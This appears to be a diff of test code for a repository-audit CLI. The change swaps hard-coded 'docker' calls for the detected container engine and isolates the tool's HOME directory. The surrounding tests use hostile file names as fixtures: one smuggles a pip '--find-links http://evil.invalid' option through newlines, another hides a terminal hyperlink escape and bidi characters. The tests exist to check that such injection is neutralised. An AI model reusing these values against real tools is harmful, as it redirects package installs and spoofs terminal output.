@@ -12,12 +12,15 @@ import { extractFacts } from "../../src/extract/index.js";
 import { STATIC_EXTRACTORS } from "../../src/extract/extractors/index.js";
 import { walkRepo } from "../../src/extract/walk.js";
 import { runBuildStage, type BuildStageResult } from "../../src/provision/build-stage.js";
+import { findEngine } from "../../src/provision/engine.js";
 import { runCli } from "../support/cli.js";
 import { BASE_IMAGE, requireEngine } from "../support/engine.js";
 import { writeFiles } from "../clone/git-fixture.js";
 
 const engine = await requireEngine();
 const work = mkdtempSync(join(tmpdir(), "ra-inject-"));
+/** The bin runs with a HOME of its own: nothing it writes lands in the user's. */
+const HOME = { HOME: join(work, "home"), XDG_CACHE_HOME: join(work, "home", ".cache") };
 /** A server on loopback that records what is asked of it: the engine's own fetches land here. */
 let server: Server;
 let port = 0;
@@ -38,9 +41,15 @@ afterAll(async () => {
   rmSync(work, { recursive: true, force: true });
 });
 
+async function engineBin(): Promise<string> {
+  const found = await findEngine("auto");
+  if (!found.ok) throw new Error(found.message);
+  return found.engine.bin;
+}
+
 /** The real engine's reading of a Dockerfile: a legacy-builder build, no network for its steps, bounded. */
 async function engineBuild(dir: string): Promise<void> {
-  await execa("docker", ["build", "--network", "none", "--rm", "--force-rm", "-f", join(dir, "Dockerfile"), dir], {
+  await execa(await engineBin(), ["build", "--network", "none", "--rm", "--force-rm", "-f", join(dir, "Dockerfile"), dir], {
     reject: false, stdin: "ignore", timeout: 120_000, env: { DOCKER_BUILDKIT: "0" },
   });
 }
@@ -83,7 +92,7 @@ describe("requirements output", () => {
       "requirements-\n--find-links http://evil.invalid/e\n.txt": "numpy\n",
     });
     const out = join(work, "req-names.txt");
-    const result = runCli(["requirements", root, "--out", out]);
+    const result = runCli(["requirements", root, "--out", out], HOME);
     expect(result.code, result.stderr).toBe(0);
     const read = pipReads(out);
     expect(read.flatMap((l) => l.options)).toEqual([]);
@@ -152,8 +161,9 @@ describe.skipIf(!engine)("the Dockerfile the audit writes", () => {
     writeFiles(root, { [spec]: "\n", "main.py": "print('hi')\n" });
     const result = await auditBuild(root, { baseImage: BASE_IMAGE });
     expect(result.section.build.status, result.section.build.logTail ?? "").toBe("built");
-    const listed = await execa("docker", ["run", "--rm", "--network", "none", "--entrypoint", "ls", result.section.image!, "-1"], { reject: false, stdin: "ignore", timeout: 60_000 });
-    await execa("docker", ["rmi", "-f", result.section.image!], { reject: false, stdin: "ignore" });
+    const bin = await engineBin();
+    const listed = await execa(bin, ["run", "--rm", "--network", "none", "--entrypoint", "ls", result.section.image!, "-1"], { reject: false, stdin: "ignore", timeout: 60_000 });
+    await execa(bin, ["rmi", "-f", result.section.image!], { reject: false, stdin: "ignore" });
     expect(String(listed.stdout).split("\n")).toContain(spec);
   });
 });
@@ -169,7 +179,7 @@ describe("text from a leaderboard or a repo, printed", () => {
     mkdirSync(dir, { recursive: true });
     writeFileSync(file, JSON.stringify({ competition: "c", runtimeLimitHours: 9, minEntries: 3, teams: HOSTILE_NAMES.map((name, i) => ({ rank: i + 1, name, entries: 5, privateScore: 0.9 - i / 100 })) }));
     const out = join(dir, "out");
-    const result = runCli(["batch", file, "--stages", "static", "--out", out, "--cache-dir", join(dir, "cache")], { CI: "1" });
+    const result = runCli(["batch", file, "--stages", "static", "--out", out, "--cache-dir", join(dir, "cache")], { CI: "1", ...HOME });
     expect(result.code, result.stderr).toBe(0);
     for (const line of result.stderr.split("\n")) expect(line).not.toMatch(/^::/);
     expect(result.stderr).not.toMatch(ACTING);
@@ -189,15 +199,15 @@ describe("text from a leaderboard or a repo, printed", () => {
       [`notes\u2067/x\u001b]8;;http://evil.invalid\u0007.py`]: "print 'py2'\n",
     });
     const saved = join(work, "report-names", "report.json");
-    const audit = runCli(["audit", root, "--stages", "static", "--format", "json", "--out", saved]);
+    const audit = runCli(["audit", root, "--stages", "static", "--format", "json", "--out", saved], HOME);
     expect([0, 1], audit.stderr).toContain(audit.code);
     const report = JSON.parse(readFileSync(saved, "utf8")) as { notes: string[] };
     report.notes.push("a note \u001b[31mred\u001b[0m \u202ereversed");
     writeFileSync(saved, JSON.stringify(report));
     for (const format of ["text", "md", "sarif", "json"]) {
-      const fresh = runCli(["audit", root, "--stages", "static", "--format", format]);
+      const fresh = runCli(["audit", root, "--stages", "static", "--format", format], HOME);
       expect(fresh.stdout, `audit --format ${format}`).not.toMatch(ACTING);
-      const again = runCli(["report", saved, "--format", format]);
+      const again = runCli(["report", saved, "--format", format], HOME);
       expect([0, 1], again.stderr).toContain(again.code);
       expect(again.stdout.length).toBeGreaterThan(0);
       expect(again.stdout, `report --format ${format}`).not.toMatch(ACTING);
